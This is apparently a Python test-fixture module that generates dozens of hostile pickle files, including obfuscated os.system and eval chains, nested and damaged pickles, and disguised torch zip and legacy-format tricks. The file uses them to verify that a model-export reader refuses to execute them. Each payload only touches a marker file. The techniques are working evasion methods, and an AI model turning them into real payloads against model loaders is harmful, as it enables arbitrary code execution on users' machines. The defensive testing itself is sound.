"""Files that run a command when they are unpickled: none may ever be.

Every one of them would create the marker file, if its pickle were loaded by one reader
or another. Handed to what reads exports, the marker must not appear.
"""

import base64
import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

__all__ = ["Called", "directory_entry", "glob", "legacy", "payloads", "text", "torch_zip"]

MAGIC = 0x1950A86A20F9469CFC6C
LEGACY: dict[str, Any] = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}
TORCH = {"version": b"3\n", "byteorder": b"little"}
"""Parts that torch writes beside data.pkl."""


class Called:
    """Pickles into a call."""

    def __init__(self, function: Callable[..., Any], *args: Any, state: Any = None) -> None:
        self.parts = (function, args) if state is None else (function, args, state)

    def __reduce__(self) -> Any:
        return self.parts

    def __call__(self) -> None:
        """Only what can be called may stand for a function in a pickle."""


def text(value: str) -> bytes:
    """An instruction that pushes a text (protocol 1 and later)."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    """The same, of protocol 4."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def glob(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def torch_zip(
    data: bytes, parts: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED
) -> bytes:
    """A zip as torch writes it, around a pickle."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as opened:
        opened.writestr("archive/data.pkl", data)
        for name, part in {**TORCH, **(parts or {})}.items():
            opened.writestr(f"archive/{name}", part)
    return file.getvalue()


def legacy(*pickles: bytes) -> bytes:
    """torch's older format, whose first pickles may be replaced."""
    parts: list[object] = [MAGIC, 1001, LEGACY, {}, []]
    usual = [pickle.dumps(part, 2) for part in parts]
    return b"".join(mine or other for mine, other in zip(pickles, usual, strict=True))


def directory_entry(data: bytes, name: str, at: int, packed: bytes) -> bytes:
    """A zip with bytes of a member's entry in the list replaced, ``at`` from its start."""
    place = int.from_bytes(data[-6:-2], "little")
    while not data[place + 46 :].startswith(name.encode()):
        place = data.index(b"PK\x01\x02", place + 1)
    return data[: place + at] + packed + data[place + at + len(packed) :]


def payloads(marker: Path) -> dict[str, bytes]:
    """Hostile files by what they try; each would create ``marker``."""
    command = f"touch {marker}"
    source = f"open({str(marker)!r}, 'w').close()"
    return {
        **_globals(command),
        **_spellings(command),
        **_reached(command, source),
        **_evaluated(source, marker),
        **_nested(command),
        **_broken(command),
        **_zips(command),
        **_legacy(command),
        **_fetched(command, source, marker),
    }


def _system(command: str, module: str = "os", name: str = "system") -> bytes:
    """Protocol 2, as most exports are written."""
    return b"\x80\x02" + glob(module, name) + text(command) + b"\x85R."


def _globals(command: str) -> dict[str, bytes]:
    """The plain ways, in all protocols."""
    argument = f"(S'{command}'\n"
    pickled = {
        f"reduce-{protocol}": pickle.dumps(Called(__import__("os").system, command), protocol)
        for protocol in range(6)
    }
    return {
        **pickled,
        "global-0": f"cos\nsystem\n{argument}tR.".encode(),
        "inst": f"{argument}ios\nsystem\n.".encode(),
        "obj": b"(" + glob("os", "system") + text(command) + b"o.",
        "newobj": b"\x80\x02" + glob("os", "system") + text(command) + b"\x85\x81.",
        "newobj-ex": b"\x80\x04" + glob("os", "system") + text(command) + b"\x85}\x92.",
        "posix": _system(command, "posix"),
        "nt": _system(command, "nt"),
        "popen": _system(command, "os", "popen"),
        "python-2-commands": _system(command, "commands", "getoutput"),
        "subprocess": pickle.dumps(Called(__import__("subprocess").Popen, command.split()), 4),
        "subprocess-shell": _system(command, "subprocess", "getoutput"),
    }


def _spellings(command: str) -> dict[str, bytes]:
    """Names that are put together on the stack."""
    call = short(command) + b"\x85R."
    return {
        "stack-global": b"\x80\x04" + short("os") + short("system") + b"\x93" + call,
        "stack-global-memo": b"\x80\x04"
        + short("system")
        + b"\x94"
        + short("os")
        + b"\x9400"
        + b"h\x01h\x00\x93"
        + call,
        "stack-global-put": b"\x80\x04"
        + short("system")
        + b"q\x07"
        + short("os")
        + b"q\xff00"
        + b"h\xffh\x07\x93"
        + call,
        "stack-global-overwritten": b"\x80\x04"
        + short("math")
        + b"q\x000"
        + short("os")
        + b"q\x000"
        + b"h\x00"
        + short("system")
        + b"\x93"
        + call,
        "stack-global-dup": b"\x80\x04"
        + short("os")
        + b"2"
        + b"0"
        + short("system")
        + b"\x93"
        + call,
        "stack-global-dotted": b"\x80\x04"
        + short("fastai.imports")
        + short("os.system")
        + b"\x93"
        + call,
        "stack-global-unicode": b"\x80\x04Vo\\u0073\nV\\u0073ystem\n\x93" + call,
        "stack-global-escaped": b"\x80\x04S'o\\x73'\nS'\\x73ystem'\n\x93" + call,
        "stack-global-computed": b"\x80\x04"
        + glob("builtins", "str")
        + short("os")
        + b"\x85R"
        + short("system")
        + b"\x93"
        + call,
        "stack-global-list": b"\x80\x04]("
        + short("os")
        + short("system")
        + b"e0"
        + short("os")
        + short("system")
        + b"\x93"
        + call,
        "mark-and-pop": b"\x80\x04(("
        + short("x")
        + b"1"
        + short("os")
        + short("system")
        + b"\x93"
        + short(command)
        + b"\x85R.",
        "after-unknown-name": b"\x80\x02" + "cm\u00f6dul\nname\n0".encode() + _system(command)[2:],
    }


def _reached(command: str, source: str) -> dict[str, bytes]:
    """Functions that are reached through others."""
    getattr_ = b"\x80\x02" + glob("builtins", "getattr")
    return {
        "getattr": getattr_
        + glob("fastai.imports", "os")
        + text("system")
        + b"\x86R"
        + text(command)
        + b"\x85R.",
        "getattr-of-import": getattr_
        + glob("builtins", "__import__")
        + text("os")
        + b"\x85R"
        + text("system")
        + b"\x86R"
        + text(command)
        + b"\x85R.",
        "getattr-subclasses": getattr_
        + glob("builtins", "object")
        + text("__subclasses__")
        + b"\x86R)R.",
        "getattr-globals": getattr_
        + getattr_[2:]
        + glob("fastai.learner", "Learner")
        + text("__init__")
        + b"\x86R"
        + text("__globals__")
        + b"\x86R.",
        "partial": b"\x80\x02"
        + glob("functools", "partial")
        + glob("os", "system")
        + text(command)
        + b"\x86R)R.",
        "methodcaller": b"\x80\x02"
        + glob("operator", "methodcaller")
        + text("system")
        + text(command)
        + b"\x86R"
        + glob("fastai.imports", "os")
        + b"\x85R.",
        "attrgetter": b"\x80\x02"
        + glob("operator", "attrgetter")
        + text("system")
        + b"\x85R"
        + glob("fastai.imports", "os")
        + b"\x85R"
        + text(command)
        + b"\x85R.",
        "map": b"\x80\x02"
        + glob("builtins", "list")
        + glob("builtins", "map")
        + glob("os", "system")
        + b"("
        + text(command)
        + b"l\x86R\x85R.",
        "reduce-function": b"\x80\x02"
        + glob("functools", "reduce")
        + glob("builtins", "eval")
        + b"("
        + text(source)
        + b"}l\x86R.",
        "rebuild": b"\x80\x02"
        + glob("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + glob("os", "system")
        + glob("torch", "Tensor")
        + text(command)
        + b"\x85}tR.",
        "copyreg": b"\x80\x02"
        + glob("copyreg", "__newobj__")
        + glob("os", "system")
        + text(command)
        + b"\x86R.",
        "numpy-reconstruct": b"\x80\x02"
        + glob("numpy._core.multiarray", "_reconstruct")
        + b"("
        + glob("os", "system")
        + text(command)
        + b"\x85"
        + text("b")
        + b"tR.",
        "build-setstate": b"\x80\x02"
        + glob("fastai.learner", "Learner")
        + b")\x81}"
        + text("__setstate__")
        + glob("os", "system")
        + b"sb"
        + text(command)
        + b"b.",
        "build-class": b"\x80\x02"
        + glob("fastai.learner", "Learner")
        + b"N}"
        + text("__setstate__")
        + glob("os", "system")
        + b"s\x86b"
        + glob("fastai.learner", "Learner")
        + b")\x81"
        + text(command)
        + b"b.",
        "setitem": pickle.dumps(Called(dict, state={"x": Called(eval, source)}), 2),
        "in-a-learner": b"\x80\x02"
        + glob("fastai.learner", "Learner")
        + b")\x81}("
        + text("dls")
        + glob("os", "system")
        + text(command)
        + b"\x85Rub.",
        "cloudpickle": _cloudpickled(command),
        "subimport": b"\x80\x02"
        + glob("cloudpickle.cloudpickle", "subimport")
        + text("os")
        + b"\x85R"
        + b"q\x00"
        + b"0"
        + glob("builtins", "getattr")
        + b"h\x00"
        + text("system")
        + b"\x86R"
        + text(command)
        + b"\x85R.",
        "extension": b"\x80\x02\x82\x2a" + text(command) + b"\x85R.",
        "persistent-module": b"\x80\x02("
        + text("module")
        + glob("os", "system")
        + text("a")
        + text("b")
        + b"tQ"
        + text(command)
        + b"\x85R.",
    }


def _cloudpickled(command: str) -> bytes:
    import cloudpickle

    def run() -> None:
        import os

        os.system(command)

    # Seen as of a notebook, so that its code is written into the file.
    run.__module__ = "__main__"
    return b"\x80\x04" + cloudpickle.dumps(run, 4)[2:-1] + b")R."


def _evaluated(source: str, marker: Path) -> dict[str, bytes]:
    """Functions that run source, a module or a file."""
    words = {
        "eval": ("builtins", "eval"),
        "exec": ("builtins", "exec"),
        "eval-python-2": ("__builtin__", "eval"),
        "exec-import": ("fastcore.basics", "exec_new"),
        "pandas-eval": ("pandas", "eval"),
        "timeit": ("timeit", "timeit"),
        "profile": ("cProfile", "run"),
        "pdb": ("pdb", "run"),
        "code": ("code", "interact"),
        "doctest": ("doctest", "debug_script"),
        "numpy-runstring": ("numpy.testing._private.utils", "runstring"),
    }
    opened = b"\x80\x02" + glob("builtins", "open") + text(str(marker)) + text("w") + b"\x86R."
    return {
        **{name: _system(source, *where) for name, where in words.items()},
        "open": opened,
        "pathlib-touch": b"\x80\x04"
        + short("pathlib")
        + short("Path.touch")
        + b"\x93"
        + glob("pathlib", "PosixPath")
        + text(str(marker))
        + b"\x85R\x85R.",
    }


def _nested(command: str) -> dict[str, bytes]:
    """A pickle inside of a pickle."""
    inner = _system(command)
    return {
        "loads": pickle.dumps(Called(pickle.loads, inner), 4),
        "loads-2": pickle.dumps(Called(pickle.loads, inner), 2),
        "loads-twice": pickle.dumps(
            Called(pickle.loads, pickle.dumps(Called(pickle.loads, inner))), 4
        ),
        "torch-bytes": b"\x80\x03"
        + glob("torch.storage", "_load_from_bytes")
        + b"C"
        + bytes([len(inner)])
        + inner
        + b"\x85R.",
        "base64": b"\x80\x03"
        + glob("pickle", "loads")
        + glob("base64", "b64decode")
        + text(base64.b64encode(inner).decode())
        + b"\x85R\x85R.",
    }


def _broken(command: str) -> dict[str, bytes]:
    """The command runs before the unpickler notices that the file is damaged."""
    inner = _system(command)[:-1]
    return {
        "then-unknown-opcode": inner + b"\xfe\xfe\xfe",
        "then-nothing": inner,
        "then-underflow": inner + b"000000000.",
        "then-bad-get": inner + b"h\x63.",
        "then-short-text": inner + b"X\xff\xff\xff\x7fabc",
        "two-pickles": pickle.dumps([1, 2, 3]) + inner + b".",
        "nothing-then-pickle": pickle.dumps(None) * 3 + inner + b".",
        "deep": b"\x80\x02" + b"(" * 20_000 + inner[2:] + b"t" * 20_000 + b".",
        "deep-lists": b"\x80\x02" + b"]" * 20_000 + inner[2:] + b"a" * 20_000 + b".",
        "long": b"\x80\x02" + b"N0" * 200_000 + inner[2:] + b".",
        "framed": b"\x80\x04\x95" + struct.pack("<Q", len(inner) - 1) + inner[2:] + b".",
        "frame-too-long": b"\x80\x04\x95" + struct.pack("<Q", 2**40) + inner[2:] + b".",
        "large-memo": b"\x80\x02" + text("x") + b"r\xff\xff\xff\x7f0" + inner[2:] + b".",
    }


def _zips(command: str) -> dict[str, bytes]:
    """In torch's zip, and beside its rules."""
    bad, good = _system(command), pickle.dumps({}, 2)
    evil = torch_zip(bad)
    honest = torch_zip(good, {"data/0": bad})
    # A whole part of that name lies inside of another part.
    within = torch_zip(good, {"data/0": torch_zip(bad)})
    inner = within.index(b"PK\x03\x04", within.index(b"archive/data/0"))
    hidden = honest.replace(b"archive/data.pkl", b"archive/data.pk_", 1)
    return {
        "zip": evil,
        "zip-packed": torch_zip(bad, method=zipfile.ZIP_DEFLATED),
        "zip-two-data": _members(("archive/data.pkl", bad), ("archive/data.pkl", good)),
        "zip-two-data-turned": _members(("archive/data.pkl", good), ("archive/data.pkl", bad)),
        "zip-two-cases": _members(("archive/DATA.PKL", bad), ("archive/data.pkl", good)),
        "zip-two-folders": _members(("archive/data.pkl", good), ("other/data.pkl", bad)),
        "zip-deeper": _members(("archive/data.pkl", good), ("archive/x/data.pkl", bad)),
        "zip-other-pickle": torch_zip(good, {"more.pkl": bad}),
        "zip-code": torch_zip(good, {"code/__torch__.py": command.encode(), "constants.pkl": bad}),
        "zip-python": torch_zip(good, {"evil.py": f"import os; os.system({command!r})".encode()}),
        "zip-other-name": hidden,
        "zip-other-place": directory_entry(
            within, "archive/data.pkl", 42, struct.pack("<I", inner)
        ),
        "zip-behind-pickle": bad + torch_zip(good),
        "zip-inside-zip": torch_zip(good, {"data/0": b"", "evil.pkl": evil}),
        "zip-with-comment": torch_zip(good)[:-2] + struct.pack("<H", len(evil)) + evil,
    }


def _members(*members: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as opened:
        for name, data in members:
            # writestr warns of a second member of one name.
            opened.NameToInfo.clear()
            opened.writestr(name, data)
    return file.getvalue()


def _legacy(command: str) -> dict[str, bytes]:
    """In each of the five pickles of torch's older format."""
    bad = _system(command)
    none: list[bytes] = [b""] * 5
    return {f"legacy-{place}": legacy(*none[:place], bad, *none[place + 1 :]) for place in range(5)}


def _fetched(command: str, source: str, marker: Path) -> dict[str, bytes]:
    """Modules and code from elsewhere."""
    folder = str(marker.parent)
    words = {
        "runpy": ("runpy", "run_path"),
        "importlib": ("importlib", "import_module"),
        "import": ("builtins", "__import__"),
        "webbrowser": ("webbrowser", "open"),
        "torch-hub": ("torch.hub", "load"),
        "torch-load": ("torch", "load"),
        "torch-serialization": ("torch.serialization", "load"),
        "torch-extension": ("torch.utils.cpp_extension", "load_inline"),
        "load-learner": ("fastai.learner", "load_learner"),
        "fastcore-run": ("fastcore.xtras", "run"),
        "numpy-load": ("numpy", "load"),
        "pandas-pickle": ("pandas", "read_pickle"),
        "joblib": ("joblib", "load"),
        "pip": ("pip._internal.cli.main", "main"),
        "pty": ("pty", "spawn"),
        "shutil": ("shutil", "rmtree"),
        "ctypes": ("ctypes", "CDLL"),
        "socket": ("socket", "create_connection"),
        "sys-modules": ("sys", "modules"),
        "marshal": ("marshal", "loads"),
        "asyncio": ("asyncio", "create_subprocess_shell"),
        "multiprocessing": ("multiprocessing.util", "spawnv_passfds"),
        "pydoc": ("pydoc", "pipepager"),
        "test-support": ("test.support.script_helper", "assert_python_ok"),
    }
    return {name: _system(folder, *where) for name, where in words.items()}
